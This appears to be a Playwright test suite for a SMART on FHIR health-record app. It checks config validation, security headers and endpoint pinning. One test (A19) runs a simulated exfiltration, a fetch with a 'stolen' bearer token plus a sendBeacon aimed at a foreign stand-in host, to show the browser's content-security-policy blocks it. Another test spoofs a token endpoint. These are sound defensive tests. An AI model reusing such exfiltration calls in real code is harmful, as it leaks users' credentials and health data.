import { deploy } from './deployment.ts'
import { banner, expect, launchFromEhr, problem, test } from './fixture.ts'
import { MISTAKES, withEhr, withServer } from './mistakes.ts'

const patient = { patient: 'priya-raman' } as const

test.describe('A mistake in config.json is shown by field, value and rule, and nobody is asked for anything', () => {
  for (const [kind, rows] of Object.entries(MISTAKES)) {
    test(kind, async ({ page, sandbox, witness }) => {
      for (const { what, change, field, told } of rows) {
        await test.step(what, async () => {
          await page.goto(await deploy(sandbox, witness, change))
          await expect(problem(page, 'config-invalid')).toBeVisible()
          const at = page.locator('dt', { hasText: new RegExp(`^${field.replaceAll('.', '\\.')}$`) })
          await expect(at).toHaveCount(1)
          await expect(at.locator('xpath=following-sibling::dd[1]')).toContainText(told)
          await expect(page.locator('main')).not.toContainText(/Invalid|Expected|undefined/)
        })
      }
      expect(await sandbox.requests(/./)).toEqual([])
    })
  }

  test('a file that is no JSON, on every door, even to an EHR that launches', async ({
    page,
    sandbox,
    witness,
  }) => {
    const app = await sandbox.site('{ "servers": [ }')
    witness.allow(app)
    const { search } = new URL(await sandbox.launchUrl(patient))
    await sandbox.forgetRequests()
    for (const path of ['/', `/launch${search}`, '/callback?code=x&state=y', '/chart']) {
      await page.goto(app + path)
      await expect(problem(page, 'config-invalid')).toBeVisible()
      await expect(page.locator('dd')).toContainText('is not JSON')
    }
    expect(await sandbox.requests(/./)).toEqual([])
  })

  test('to an EHR that launches too, whose server is one of those that are spelt well', async ({
    page,
    sandbox,
    witness,
  }) => {
    const app = await deploy(sandbox, witness, withServer({ clientId: '' }))
    const url = await sandbox.launchUrl({ ...patient, app })
    await sandbox.forgetRequests()
    await page.goto(url)
    await expect(problem(page, 'config-invalid')).toBeVisible()
    expect(await sandbox.requests(/./)).toEqual([])
  })

  test('every one of several, not only the first', async ({ page, sandbox, witness }) => {
    const app = await deploy(sandbox, witness, withServer({ id: 'A B', clientId: '', fhirBase: 'fhir' }))
    await page.goto(app)
    await expect(problem(page, 'config-invalid')).toBeVisible()
    const fields = await page.locator('dt').allTextContents()
    expect(fields.sort()).toEqual(['servers.0.clientId', 'servers.0.fhirBase', 'servers.0.id'])
  })
})

test.describe('The headers of every page are made from the trust list', () => {
  const pages = ['/', '/launch', '/callback', '/chart', '/signed-out', '/config.json', '/no/such/page']
  const directivesOf = (policy: string | null) =>
    Object.fromEntries(
      (policy ?? '').split('; ').map(part => [part.split(' ')[0], part.split(' ').slice(1).join(' ')]),
    )

  test('and are those of the defaults, on each page and on a 404', async ({ stack }) => {
    const origin = stack.sandbox
    for (const path of pages) {
      const { headers } = await fetch(stack.app + path)
      const {
        'script-src': scripts,
        'style-src': styles,
        ...policy
      } = directivesOf(headers.get('content-security-policy'))
      expect(policy, path).toEqual({
        'default-src': "'none'",
        'img-src': "'self' data: blob:",
        'font-src': "'self'",
        'connect-src': `'self' ${origin} ${stack.northside}`,
        'worker-src': "'self'",
        'frame-src': "'self' blob:",
        'object-src': "'none'",
        'base-uri': "'none'",
        'form-action': `'self' ${origin} ${stack.northside}`,
        'frame-ancestors': `${origin} ${origin.replace('localhost', '127.0.0.1')}`,
        'manifest-src': "'self'",
        'require-trusted-types-for': "'script'",
        'trusted-types': 'dompurify app-worker',
      })
      expect(styles, path).toMatch(/^'self' 'sha256-[\w+/]{43}='$/)
      expect(scripts, path).toMatch(/^'self'( 'sha256-[\w+/]{43}=')*$/)
      expect(Object.fromEntries(headers), path).toMatchObject({
        'cache-control': 'no-store',
        'cross-origin-opener-policy': 'same-origin',
        'cross-origin-resource-policy': 'same-origin',
        'origin-agent-cluster': '?1',
        'referrer-policy': 'no-referrer',
        'x-content-type-options': 'nosniff',
      })
      expect(headers.get('permissions-policy'), path).toMatch(
        /camera=\(\), microphone=\(\), geolocation=\(\)/,
      )
    }
  })

  test('with https throughout they also forbid going back to http', async ({ sandbox }) => {
    const secure = await sandbox.site({
      servers: [
        {
          id: 'ehr',
          name: 'Mercy',
          fhirBase: 'https://fhir.mercy.example/r4',
          clientId: 'chartkey',
          endpointOrigins: ['https://auth.mercy.example'],
          launches: { ehr: { scopes: ['patient/Patient.rs'] } },
        },
      ],
    })
    const { headers } = await fetch(secure)
    const policy = directivesOf(headers.get('content-security-policy'))
    expect(policy).toMatchObject({
      'connect-src': "'self' https://fhir.mercy.example https://auth.mercy.example",
      'frame-ancestors': "'none'",
      'upgrade-insecure-requests': '',
    })
    expect(headers.get('strict-transport-security')).toBe('max-age=63072000; includeSubDomains')
  })

  test('where the configuration is wrong they trust nobody', async ({ sandbox }) => {
    const { headers } = await fetch(await sandbox.site({ servers: [] }))
    const policy = directivesOf(headers.get('content-security-policy'))
    expect(policy).toMatchObject({
      'connect-src': "'self'",
      'frame-ancestors': "'none'",
      'form-action': "'self'",
    })
  })

  test('A19: so that a request the code should never make is stopped by the browser', async ({
    page,
    sandbox,
    stack,
    witness,
  }) => {
    await launchFromEhr(page, sandbox, patient)
    const tried = await page.evaluate(async url => {
      const answer = await fetch(url, { headers: { authorization: 'Bearer stolen' } }).catch(String)
      const beacon = navigator.sendBeacon(url, 'stolen')
      return { answer: String(answer), beacon }
    }, `${stack.foreign}/stolen`)
    expect(tried.answer).toMatch(/TypeError/)
    witness.expectViolation(new RegExp(`^connect-src blocked ${stack.foreign}`))
    expect(await sandbox.heardElsewhere()).toEqual([])
  })

  test('a path that is no page of the app is not found, and no launch page answers for it', async ({
    stack,
  }) => {
    for (const path of ['/no/such/page', '/launch/x', '/callback.php', '/.well-known/smart-configuration']) {
      const answer = await fetch(stack.app + path)
      expect(answer.status, path).toBe(404)
      expect(answer.headers.get('content-type'), path).toContain('text/plain')
    }
    expect((await fetch(stack.app, { method: 'POST', body: 'x' })).status).toBe(405)
  })
})

test.describe('What a deployment chooses', () => {
  test('two servers: both are offered, and each sign-in goes to the one that was clicked', async ({
    page,
    sandbox,
    stack,
    witness,
  }) => {
    const other = `${stack.sandbox.replace('localhost', '127.0.0.1')}/fhir`
    const app = await deploy(sandbox, witness, ({ servers, ...config }) => ({
      ...config,
      servers: [
        ...servers,
        ...servers.map(server => ({
          ...server,
          id: 'second',
          name: 'Second Hospital',
          fhirBase: other,
          clientId: 'second-client',
          endpointOrigins: [stack.sandbox],
        })),
      ],
    }))
    await page.goto(app)
    await expect(page.getByRole('button', { name: /^Sign in at/ })).toHaveCount(2)
    await page.getByRole('button', { name: /^Sign in at Second Hospital/ }).click()
    await page.waitForURL(/\/auth\//)
    const [second] = await sandbox.requests(/^\/auth\/authorize$/)
    expect(second?.query).toMatchObject({ aud: other, client_id: 'second-client' })
    await launchFromEhr(page, sandbox, { ...patient, app })
    const [, first] = await sandbox.requests(/^\/auth\/authorize$/)
    expect(first?.query).toMatchObject({ aud: stack.fhirBase, client_id: 'chartkey' })
  })

  test('one server with an entry for its clinicians and another for its patients: each launch uses its own', async ({
    page,
    sandbox,
    stack,
    witness,
  }) => {
    const app = await deploy(sandbox, witness, ({ servers: [server = {}], ...config }) => {
      const { ehr, standalone } = server.launches as { ehr: object; standalone: object }
      const patients = { ...server, id: 'patients', name: 'For patients', launches: { standalone } }
      return { ...config, servers: [patients, { ...server, name: 'For clinicians', launches: { ehr } }] }
    })
    await launchFromEhr(page, sandbox, { ...patient, app })
    await expect(banner(page)).toContainText('For clinicians')
    await sandbox.signIn({ account: 'priya' })
    await page.goto(app)
    await page.getByRole('button', { name: /^Sign in at For patients/ }).click()
    await expect(banner(page)).toContainText('For patients')
    expect((await sandbox.requests(/^\/auth\/authorize$/)).map(({ query }) => query.aud)).toEqual([
      stack.fhirBase,
      stack.fhirBase,
    ])
  })

  test('a kind of launch that is not allowed is refused before anything is asked', async ({
    page,
    sandbox,
    witness,
  }) => {
    const app = await deploy(sandbox, witness, config => ({
      ...config,
      servers: config.servers.map(server => {
        const { standalone } = server.launches as { standalone: object }
        return { ...server, launches: { standalone } }
      }),
    }))
    await page.goto(await sandbox.launchUrl({ ...patient, app }))
    await expect(problem(page, 'launch-not-allowed')).toBeVisible()
    expect(await sandbox.requests(/^\/auth\//)).toEqual([])
  })

  test('storage "memory": a reload signs out, and nothing was ever kept in the browser', async ({
    page,
    sandbox,
    witness,
  }) => {
    const app = await deploy(sandbox, witness, withEhr({ storage: 'memory' }))
    await launchFromEhr(page, sandbox, { ...patient, app })
    await expect(banner(page)).toContainText('Raman')
    const [fhir] = await sandbox.requests(/^\/fhir\/Patient/)
    const token = String(fhir?.authorization).replace(/^Bearer /, '')
    expect(await page.evaluate(() => JSON.stringify(sessionStorage))).not.toContain(token)
    expect(await page.evaluate(() => JSON.stringify(sessionStorage))).not.toContain('priya-raman')
    await page.reload()
    await expect(page.getByRole('heading', { name: 'Your health record' })).toBeVisible()
    await expect(page.locator('body')).not.toContainText('Raman')
  })

  test('pinned endpoints: the launch waits for no discovery', async ({ page, sandbox, stack, witness }) => {
    const auth = `${stack.sandbox}/auth`
    const endpoints = { authorization: `${auth}/authorize`, token: `${auth}/token`, jwks: `${auth}/jwks` }
    const app = await deploy(sandbox, witness, withServer({ endpoints, issuer: auth }))
    await sandbox.fault({ match: { path: '/^\\/fhir\\/(metadata|\\.well-known)/' }, action: { hang: true } })
    await launchFromEhr(page, sandbox, { ...patient, app })
    await expect(page.getByText('Identity verified').first()).toBeVisible()
  })

  test('pinned endpoints are the ones that are used, whatever the server says of others', async ({
    page,
    sandbox,
    stack,
    witness,
  }) => {
    const auth = `${stack.sandbox}/auth`
    const endpoints = { authorization: `${auth}/authorize`, token: `${auth}/token`, jwks: `${auth}/jwks` }
    const app = await deploy(sandbox, witness, withServer({ endpoints, issuer: auth }))
    await sandbox.fault({
      match: { path: '/fhir/.well-known/smart-configuration' },
      action: { patchJson: [{ path: 'token_endpoint', value: `${stack.foreign}/token` }] },
    })
    await launchFromEhr(page, sandbox, { ...patient, app })
    expect(await sandbox.requests(/^\/auth\/token$/)).toHaveLength(1)
    expect(await sandbox.heardElsewhere()).toEqual([])
  })

  test('pinned endpoints outside the listed origins are refused before anyone is sent there', async ({
    page,
    sandbox,
    stack,
    witness,
  }) => {
    const endpoints = { authorization: `${stack.foreign}/authorize`, token: `${stack.foreign}/token` }
    const app = await deploy(sandbox, witness, withServer({ endpoints }))
    await page.goto(await sandbox.launchUrl({ ...patient, app }))
    await expect(problem(page, 'endpoint-not-trusted')).toBeVisible()
    expect(await sandbox.heardElsewhere()).toEqual([])
  })
})
